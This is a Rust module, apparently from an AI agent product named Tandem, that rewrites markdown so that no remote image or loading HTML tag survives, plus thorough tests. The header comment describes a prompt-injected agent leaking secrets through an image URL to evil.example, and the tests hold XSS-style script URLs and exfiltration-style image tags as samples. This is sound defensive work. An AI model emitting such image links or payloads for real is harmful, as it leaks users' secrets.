//! Which URLs text written by someone may link to or embed, and the one rewrite that keeps
//! remote images out of everything Tandem renders or posts: the web app's timeline (an agent's
//! reply, a guest's prompt) and the text it sends to GitHub (pull request bodies) and Slack.
//!
//! An image is fetched by whoever looks at it (every viewer's browser, GitHub's image proxy)
//! without anyone choosing to: an agent, or anything that injected it, writing
//! `![](https://evil.example/?d=<secret>)` would carry data out of a workspace past its egress
//! allow-list. So images come from Tandem itself (its artifacts: screenshots, attachments) or
//! not at all; a remote one becomes a plain link the person may choose to open.

use std::ops::Range;

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

/// What a URL is for.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Target {
    Link,
    Image,
}

/// `http(s)` (and `mailto:` for links), or a path on Tandem's own origin (`/…`, `#…`, a
/// relative path): never `javascript:`, `data:`, `vbscript:` or any other scheme, however it
/// is spelled (browsers drop tabs and newlines and ignore case). Whether an image may be
/// *shown* is [`own_image`]'s question; this one only rules out script URLs.
pub fn safe_url(url: &str, target: Target) -> bool {
    let u: String = url
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    if u.starts_with("https://") || u.starts_with("http://") {
        return true;
    }
    if target == Target::Link && u.starts_with("mailto:") {
        return true;
    }
    if u.starts_with("//") || u.starts_with("\\\\") || u.starts_with("/\\") {
        // Another host, scheme-relative.
        return false;
    }
    // No scheme at all: a path here. A scheme is what precedes the first ':' before any of
    // `/?#`.
    let end = u.find(['/', '?', '#']).unwrap_or(u.len());
    !u[..end].contains(':')
}

/// The markdown dialect Tandem parses (GitHub's: tables, strikethrough, task lists, footnotes).
/// The rewrite and the web app's renderer parse alike, so what one calls an image the other
/// does too.
pub fn markdown_options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM
}

/// Whether `url` is one of Tandem's own artifact images: `/api/sessions/<id>/artifacts/<id>`
/// (the web app's, same origin) or `/api/artifacts/<id>/<expiry>.<signature>` (a signed link,
/// as pull request bodies embed screenshots). With `public_url` empty only a path on the page's
/// own origin counts; otherwise only a URL under `public_url` (Tandem's public URL).
pub fn own_image(url: &str, public_url: &str) -> bool {
    let public = public_url.trim_end_matches('/');
    let path = if public.is_empty() {
        url
    } else {
        match url.strip_prefix(public) {
            Some(p) => p,
            None => return false,
        }
    };
    let Some(rest) = path.strip_prefix("/api/") else {
        return false;
    };
    let segment = |s: &&str| {
        !s.is_empty()
            && *s != "."
            && *s != ".."
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    };
    let parts: Vec<&str> = rest.split('/').collect();
    parts.iter().all(segment)
        && matches!(
            parts.as_slice(),
            ["artifacts", _, _] | ["sessions", _, "artifacts", _]
        )
}

/// Raw HTML tags kept as they are: bare (no attributes, so no `src`, `srcset`, `style` or
/// `background`) and none of them loads anything.
const PLAIN_TAGS: &[&str] = &[
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// How many times the rewrite re-parses its own output (escaping an HTML block's first tag
/// turns the block into markdown, which may hold images of its own) before it falls back to
/// escaping every `!` and `<`.
const MAX_ROUNDS: usize = 8;

/// `md` with no remote image left in it: every image not [`own_image`] becomes a plain link to
/// its URL (`![chart](https://x/c.png)` → `[chart](<https://x/c.png>)`; reference-style images
/// too), and raw HTML other than a few bare tags (`<details>`, `<br>`, …) is escaped so it shows
/// as text (`<img src=…>`, `<picture>`, `<video poster=…>`). Links, autolinks and code are kept
/// as they are. The result parses (in Tandem's dialect, and so GitHub's) to no image that is not
/// Tandem's own; text that keeps changing after several passes has every `!` and `<` escaped.
pub fn without_remote_images(md: &str, public_url: &str) -> String {
    let mut text = md.to_string();
    for _ in 0..MAX_ROUNDS {
        match rewrite_once(&text, public_url) {
            None => return text,
            Some(next) => text = next,
        }
    }
    text.replace('!', "&#33;").replace('<', "&lt;")
}

/// [`without_remote_images`] for text another markdown parser renders (GitHub's cmark-gfm
/// reads some text otherwise than pulldown-cmark: `[^a b]: url` is a footnote to one and a link
/// reference to the other, so `![^a b]` is an image there only). The rewrite vets what *this*
/// parser sees; then, whatever parser reads the result: each of Tandem's own images is written
/// out anew as a plain inline image, and every other `![` becomes `!\[` (an escaped bracket
/// opens neither an image nor a link in any CommonMark parser), as does every `<` opening a tag
/// that loads something (`<img`, `<picture`, …: `&lt;`). The cost: those two spellings show
/// with their escape inside code on GitHub.
pub fn without_remote_images_elsewhere(md: &str, public_url: &str) -> String {
    seal(&without_remote_images(md, public_url), public_url)
}

/// [`without_remote_images_elsewhere`] of `md` cut to fit in `max_chars` (with `…` where it
/// was cut): the rewrite runs after the cut, since a cut can open an image (a code span that
/// loses its closing backtick).
pub fn without_remote_images_within(md: &str, public_url: &str, max_chars: usize) -> String {
    let mut limit = max_chars;
    loop {
        let out = without_remote_images_elsewhere(&cut(md, limit), public_url);
        if out.chars().count() <= max_chars || limit == 0 {
            return out;
        }
        limit = limit * 9 / 10;
    }
}

fn cut(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        s.to_string()
    } else {
        let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
        out.push('…');
        out
    }
}

/// An image being read: where it is, its URL, its alt text so far, how deep in nested images.
struct OpenImage {
    range: Range<usize>,
    url: String,
    alt: String,
    depth: usize,
    keep: bool,
}

/// One pass: the edits this parse finds, applied; `None` when there are none.
fn rewrite_once(md: &str, public_url: &str) -> Option<String> {
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    let mut open: Option<OpenImage> = None;
    for (event, range) in Parser::new_ext(md, markdown_options()).into_offset_iter() {
        if let Some(img) = open.as_mut() {
            match event {
                Event::Start(Tag::Image { .. }) => img.depth += 1,
                Event::End(TagEnd::Image) if img.depth > 0 => img.depth -= 1,
                Event::End(TagEnd::Image) => {
                    let img = open.take().unwrap_or_else(|| unreachable!("open"));
                    if !img.keep {
                        edits.push((img.range, as_link(&img.alt, &img.url)));
                    }
                }
                Event::Text(t) | Event::Code(t) | Event::InlineMath(t) => img.alt.push_str(&t),
                Event::SoftBreak | Event::HardBreak => img.alt.push(' '),
                _ => {}
            }
            continue;
        }
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => {
                open = Some(OpenImage {
                    keep: own_image(&dest_url, public_url),
                    range,
                    url: dest_url.to_string(),
                    alt: String::new(),
                    depth: 0,
                });
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                let src = &md[range.clone()];
                let escaped = escape_html(src);
                if escaped != src {
                    edits.push((range, escaped));
                }
            }
            _ => {}
        }
    }
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|(r, _)| r.start);
    let mut out = String::with_capacity(md.len() + 64);
    let mut at = 0;
    for (r, with) in edits {
        if r.start < at {
            continue;
        }
        out.push_str(&md[at..r.start]);
        out.push_str(&with);
        at = r.end;
    }
    out.push_str(&md[at..]);
    Some(out)
}

/// Tags whose opening `<` [`seal`] escapes wherever it is: each can load something.
const LOADING_TAGS: &[&str] = &[
    "img", "image", "picture", "source", "video", "audio", "track", "svg", "input", "iframe",
    "frame", "object", "embed", "link", "meta", "style", "body", "table", "td", "th", "math",
];

/// `md`, already rewritten, made safe for any parser: its own images (every image this parser
/// still sees) written anew as `![alt](url)`, and outside them every `![` → `!\[` and every
/// `<` opening a [`LOADING_TAGS`] tag → `&lt;`.
fn seal(md: &str, public_url: &str) -> String {
    let mut kept: Vec<(Range<usize>, String)> = Vec::new();
    let mut open: Option<OpenImage> = None;
    for (event, range) in Parser::new_ext(md, markdown_options()).into_offset_iter() {
        if let Some(img) = open.as_mut() {
            match event {
                Event::Start(Tag::Image { .. }) => img.depth += 1,
                Event::End(TagEnd::Image) if img.depth > 0 => img.depth -= 1,
                Event::End(TagEnd::Image) => {
                    let img = open.take().unwrap_or_else(|| unreachable!("open"));
                    let with = if img.keep {
                        own_image_markup(&img.alt, &img.url)
                    } else {
                        as_link(&img.alt, &img.url)
                    };
                    kept.push((img.range, with));
                }
                Event::Text(t) | Event::Code(t) | Event::InlineMath(t) => img.alt.push_str(&t),
                Event::SoftBreak | Event::HardBreak => img.alt.push(' '),
                _ => {}
            }
            continue;
        }
        if let Event::Start(Tag::Image { dest_url, .. }) = event {
            open = Some(OpenImage {
                keep: own_image(&dest_url, public_url),
                range,
                url: dest_url.to_string(),
                alt: String::new(),
                depth: 0,
            });
        }
    }
    let mut out = String::with_capacity(md.len() + 64);
    let mut at = 0;
    for (r, with) in kept {
        if r.start < at {
            continue;
        }
        out.push_str(&escape_openers(&md[at..r.start]));
        out.push_str(&with);
        at = r.end;
    }
    out.push_str(&escape_openers(&md[at..]));
    out
}

/// `text` with every `![` → `!\[` and every `<` opening a [`LOADING_TAGS`] tag → `&lt;`.
fn escape_openers(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    for (i, c) in text.char_indices() {
        match c {
            '[' if text[..i].ends_with('!') => out.push_str("\\["),
            '<' if loading_tag_at(&text[i + 1..]) => out.push_str("&lt;"),
            c => out.push(c),
        }
    }
    out
}

/// Whether `rest` (what follows a `<`) starts with a [`LOADING_TAGS`] name (or `/` and one)
/// that ends there.
fn loading_tag_at(rest: &str) -> bool {
    let rest = rest.strip_prefix('/').unwrap_or(rest);
    let name: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric())
        .collect::<String>()
        .to_ascii_lowercase();
    LOADING_TAGS.contains(&name.as_str())
}

/// One of Tandem's own images (its URL vetted by [`own_image`]) as a plain inline image, its
/// alt text literal: what any parser reads as that image and nothing else.
fn own_image_markup(alt: &str, url: &str) -> String {
    let plain = !url
        .chars()
        .any(|c| c.is_whitespace() || c.is_control() || matches!(c, '(' | ')' | '<' | '>' | '\\'));
    if plain {
        format!("![{}]({url})", literal_text(alt))
    } else {
        format!("!{}", as_link(alt, url))
    }
}

/// A markdown link showing `alt` (or "image") and going to `url`, every character literal.
fn as_link(alt: &str, url: &str) -> String {
    let mut out = format!("[{}](<", literal_text(alt));
    for c in url.chars() {
        match c {
            '<' | '>' | '\\' | '&' => {
                out.push('\\');
                out.push(c);
            }
            c if c.is_whitespace() || c.is_control() => {
                let mut buf = [0u8; 4];
                for b in c.encode_utf8(&mut buf).bytes() {
                    out.push_str(&format!("%{b:02X}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push_str(">)");
    out
}

/// `alt` (or "image") as markdown text whose every character is literal.
fn literal_text(alt: &str) -> String {
    let alt = alt.trim();
    let alt = if alt.is_empty() { "image" } else { alt };
    let mut out = String::with_capacity(alt.len() + 8);
    for c in alt.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(if c.is_control() { ' ' } else { c });
    }
    out
}

/// Raw HTML with every `<` escaped except those opening a bare [`PLAIN_TAGS`] tag.
fn escape_html(src: &str) -> String {
    let mut out = String::with_capacity(src.len());
    let mut rest = src;
    while let Some(i) = rest.find('<') {
        out.push_str(&rest[..i]);
        let after = &rest[i..];
        match after.find('>') {
            Some(j) if plain_tag(&after[..=j]) => {
                out.push_str(&after[..=j]);
                rest = &after[j + 1..];
            }
            _ => {
                out.push_str("&lt;");
                rest = &after[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// `<name>`, `</name>` or `<name/>` (spaces allowed before the end) for a name in
/// [`PLAIN_TAGS`].
fn plain_tag(tag: &str) -> bool {
    let inner = &tag[1..tag.len() - 1];
    let inner = inner.strip_prefix('/').unwrap_or(inner);
    let inner = inner.strip_suffix('/').unwrap_or(inner).trim_end();
    let name = inner.to_ascii_lowercase();
    PLAIN_TAGS.contains(&name.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The URLs of the images `md` holds, parsed as the renderer parses it.
    fn images(md: &str) -> Vec<String> {
        Parser::new_ext(md, markdown_options())
            .filter_map(|e| match e {
                Event::Start(Tag::Image { dest_url, .. }) => Some(dest_url.to_string()),
                _ => None,
            })
            .collect()
    }

    /// Raw HTML `md` holds (which a renderer like GitHub's would keep).
    fn html(md: &str) -> Vec<String> {
        Parser::new_ext(md, markdown_options())
            .filter_map(|e| match e {
                Event::Html(t) | Event::InlineHtml(t) => Some(t.to_string()),
                _ => None,
            })
            .collect()
    }

    /// The link destinations `md` holds.
    fn links(md: &str) -> Vec<String> {
        Parser::new_ext(md, markdown_options())
            .filter_map(|e| match e {
                Event::Start(Tag::Link { dest_url, .. }) => Some(dest_url.to_string()),
                _ => None,
            })
            .collect()
    }

    /// Raw HTML whose every tag is a bare harmless one (the rest is text, `&lt;` escaped).
    fn only_plain_tags(h: &str) -> bool {
        escape_html(h) == h
    }

    const EVIL: &str = "http://127.0.0.1:9/x?d=secret";
    const PUBLIC: &str = "https://tandem.example";

    #[test]
    fn script_urls_never_become_links_or_images() {
        for bad in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox",
            "//evil.example/x",
            "\\\\evil.example\\x",
        ] {
            assert!(!safe_url(bad, Target::Link), "{bad:?}");
            assert!(!safe_url(bad, Target::Image), "{bad:?}");
        }
        for good in [
            "https://github.com/acme/web/pull/1",
            "http://127.0.0.1:3000/",
            "/sessions/x",
            "#top",
            "docs/README.md",
        ] {
            assert!(safe_url(good, Target::Link), "{good:?}");
        }
        assert!(safe_url("mailto:a@b.c", Target::Link));
        assert!(!safe_url("mailto:a@b.c", Target::Image));
    }

    #[test]
    fn only_tandems_own_artifacts_are_own_images() {
        let sid = "0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b";
        assert!(own_image(
            &format!("/api/sessions/{sid}/artifacts/{sid}"),
            ""
        ));
        assert!(own_image(
            &format!("/api/artifacts/{sid}/1700000000.ab12"),
            ""
        ));
        assert!(own_image(
            &format!("{PUBLIC}/api/artifacts/{sid}/1700000000.ab12"),
            PUBLIC
        ));
        assert!(own_image(
            &format!("{PUBLIC}/api/artifacts/{sid}/1700000000.ab12"),
            &format!("{PUBLIC}/")
        ));
        for not in [
            EVIL.to_string(),
            format!("https://evil.example/api/artifacts/{sid}/1.2"),
            format!("{PUBLIC}.evil.example/api/artifacts/{sid}/1.2"),
            format!("{PUBLIC}@evil.example/api/artifacts/{sid}/1.2"),
            format!("/api/artifacts/{sid}/1.2?d=secret"),
            format!("/api/artifacts/{sid}/../../auth/github/callback"),
            "/api/auth/github/callback?code=x&state=y".into(),
            "//evil.example/api/artifacts/a/b".into(),
            "/api/artifacts/a".into(),
            "data:image/png;base64,AAAA".into(),
        ] {
            assert!(!own_image(&not, ""), "{not:?}");
            assert!(!own_image(&not, PUBLIC), "{not:?}");
        }
        // Under a public URL only its own absolute links count, not a path GitHub would resolve.
        assert!(!own_image(&format!("/api/artifacts/{sid}/1.2"), PUBLIC));
    }

    #[test]
    fn a_remote_image_becomes_a_link_to_the_same_url() {
        let out = without_remote_images(&format!("See ![the chart]({EVIL}) here."), "");
        assert_eq!(out, format!("See [the chart](<{EVIL}>) here."));
        assert!(images(&out).is_empty());
        assert_eq!(links(&out), [EVIL]);
        // No alt text: the link still has something to click.
        let out = without_remote_images(&format!("![]({EVIL} \"title\")"), "");
        assert_eq!(out, format!("[image](<{EVIL}>)"));
    }

    #[test]
    fn every_spelling_of_a_remote_image_is_caught() {
        for md in [
            format!("![a]({EVIL})"),
            format!("![a](<{EVIL}>)"),
            format!("![a][r]\n\n[r]: {EVIL}"),
            format!("![r][]\n\n[r]: {EVIL}"),
            format!("![r]\n\n[R]: {EVIL} \"t\""),
            format!("> - ![a]({EVIL})"),
            format!("| a |\n|---|\n| ![a]({EVIL}) |"),
            format!("[![a]({EVIL})](https://ok.example)"),
            format!("![![inner]({EVIL})](https://two.example/i.png)"),
            format!("text[^1]\n\n[^1]: ![a]({EVIL})"),
            format!("- [ ] ![a]({EVIL})"),
            format!("**![a]({EVIL})**"),
        ] {
            let out = without_remote_images(&md, "");
            assert!(images(&out).is_empty(), "{md:?} → {out:?}");
            assert!(
                links(&out).iter().any(|l| l == EVIL) || md.contains("two.example"),
                "{md:?} → {out:?}: the URL stays reachable as a link"
            );
        }
    }

    #[test]
    fn html_that_loads_anything_shows_as_text() {
        for md in [
            format!("<img src=\"{EVIL}\">"),
            format!("text <img src={EVIL} alt=x> more"),
            format!("<IMG\nSRC=\"{EVIL}\">"),
            format!("<picture><source srcset=\"{EVIL}\"></picture>"),
            format!("<video poster=\"{EVIL}\"></video>"),
            format!("<p style=\"background:url({EVIL})\">x</p>"),
            format!("<div>\n<img src=\"{EVIL}\">\n</div>"),
            format!("<!-- <img src=\"{EVIL}\"> -->"),
        ] {
            let out = without_remote_images(&md, "");
            assert!(
                html(&out).iter().all(|h| only_plain_tags(h)),
                "{md:?} → {out:?}"
            );
            assert!(images(&out).is_empty(), "{md:?} → {out:?}");
        }
        // An HTML block that stops being one (its tag escaped) exposes its markdown to the
        // next pass, which catches the image in it.
        let md = format!("<section>\n![a]({EVIL})\n</section>");
        let out = without_remote_images(&md, "");
        assert!(images(&out).is_empty(), "{out:?}");
        assert!(html(&out).is_empty(), "{out:?}");
        // Bare harmless tags stay.
        let md = "<details>\n<summary>Log</summary>\n\ntext\n\n</details>\nline<br>two";
        assert_eq!(without_remote_images(md, ""), md);
    }

    #[test]
    fn tandems_own_images_links_code_and_autolinks_are_left_alone() {
        let own = format!("![after.png]({PUBLIC}/api/artifacts/0190a1b2/1700000000.ab12)");
        for md in [
            own.clone(),
            format!("[a link]({EVIL})"),
            format!("<{EVIL}>"),
            format!("bare {EVIL} url"),
            format!("`![a]({EVIL})`"),
            format!("```\n![a]({EVIL})\n<img src={EVIL}>\n```"),
            format!("    ![a]({EVIL})"),
            "a < b and c > d".into(),
        ] {
            assert_eq!(without_remote_images(&md, PUBLIC), md, "{md:?}");
        }
        assert_eq!(images(&own).len(), 1);
        // In the web app (no public URL) the same absolute link is remote.
        assert!(images(&without_remote_images(&own, "")).is_empty());
        assert_eq!(
            without_remote_images("![shot](/api/sessions/a/artifacts/b)", ""),
            "![shot](/api/sessions/a/artifacts/b)"
        );
    }

    #[test]
    fn alt_text_and_urls_cannot_break_out_of_the_link() {
        let md = "![a](<https://e.example/x>y\\>z> \"t\") ![x [y] *z* `c` ](https://e.example/a b)";
        let out = without_remote_images(md, "");
        assert!(images(&out).is_empty(), "{out:?}");
        let md = "![*](https://e.example/<&lt;>\\\\)";
        let out = without_remote_images(md, "");
        assert!(images(&out).is_empty(), "{out:?}");
        assert_eq!(links(&out), links(&md.replacen('!', "", 1)), "{out:?}");
    }

    #[test]
    fn a_cut_that_would_open_an_image_is_rewritten_after_the_cut() {
        // Cut inside the code span: its closing backtick goes, the image would show.
        let md = format!("`![a]({EVIL})` and more text after it");
        let out = without_remote_images_within(&md, "", md.find(" and").unwrap() - 1);
        assert!(images(&out).is_empty(), "{out:?}");
        assert!(out.chars().count() < md.find(" and").unwrap());
        // Text that grows when escaped still fits.
        let md = "<x>".repeat(100);
        let out = without_remote_images_within(&md, "", 120);
        assert!(out.chars().count() <= 120, "{}", out.chars().count());
        assert!(html(&out).is_empty());
    }

    /// The image URLs and raw HTML a GFM parser (comrak, as GitHub's cmark-gfm; with and
    /// without footnotes) finds in `md`.
    fn gfm_images_and_html(md: &str) -> Vec<String> {
        use comrak::nodes::NodeValue;
        let mut found = Vec::new();
        for footnotes in [true, false] {
            let arena = comrak::Arena::new();
            let mut options = comrak::Options::default();
            options.extension.table = true;
            options.extension.strikethrough = true;
            options.extension.tasklist = true;
            options.extension.autolink = true;
            options.extension.footnotes = footnotes;
            for node in comrak::parse_document(&arena, md, &options).descendants() {
                match &node.data.borrow().value {
                    NodeValue::Image(l) => found.push(l.url.clone()),
                    NodeValue::HtmlInline(h) => found.push(h.clone()),
                    NodeValue::HtmlBlock(h) => found.push(h.literal.clone()),
                    _ => {}
                }
            }
        }
        found
            .into_iter()
            .filter(|h| !only_plain_tags(h) || !h.trim_start().starts_with('<'))
            .collect()
    }

    #[test]
    fn text_for_github_holds_no_image_that_github_would_show() {
        let sid = "0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b";
        let own = format!("{PUBLIC}/api/artifacts/{sid}/1700000000.ab12");
        for md in [
            // Footnote to pulldown-cmark, link reference to cmark-gfm.
            format!("![^a b]\n\n[^a b]: {EVIL}"),
            format!("![^a\tb]\n\n[^a\tb]: {EVIL}"),
            format!("![x][^a b]\n\n[^a b]: {EVIL}"),
            format!("![x][^a b]\n\n[^a b]: {own}\n[^A  B]: {EVIL}"),
            format!("text ![^a b] more\n\n[^a b]: <{EVIL}> \"t\""),
            format!("[^a b]: x\n\n    ![a]({EVIL})\n    <img src={EVIL}>"),
            format!("![x][ref]\n\n[ref]: {EVIL}"),
            format!("!\n[x]({EVIL})"),
            format!("\\![x]({EVIL}) \\\\![y]({EVIL})"),
            format!("`![a]({EVIL})` ```\n<img src={EVIL}>\n```"),
            format!("![own]({own}) ![x][^a b]\n\n[^a b]: {EVIL}"),
        ] {
            let out = without_remote_images_elsewhere(&md, PUBLIC);
            let found = gfm_images_and_html(&out);
            assert!(
                found.iter().all(|u| u == &own),
                "{md:?} → {out:?}: GFM sees {found:?}"
            );
            assert!(images(&out).iter().all(|u| u == &own), "{md:?} → {out:?}");
        }
        // Tandem's own images still show, on GitHub too.
        let md = format!("![after.png]({own}) and ![r][r]\n\n[r]: {own}");
        let out = without_remote_images_elsewhere(&md, PUBLIC);
        assert_eq!(
            gfm_images_and_html(&out),
            [own.clone(), own.clone(), own.clone(), own.clone()]
        );
        assert!(
            out.starts_with(&format!("![after\\.png]({own})")),
            "{out:?}"
        );
    }

    #[test]
    fn nested_html_blocks_leave_no_image() {
        let mut md = format!("![a]({EVIL})");
        for _ in 0..(MAX_ROUNDS + 2) {
            md = format!("<section>\n{md}\n</section>");
        }
        let out = without_remote_images(&md, "");
        assert!(images(&out).is_empty(), "{out:?}");
        assert!(html(&out).iter().all(|h| only_plain_tags(h)), "{out:?}");
    }
}
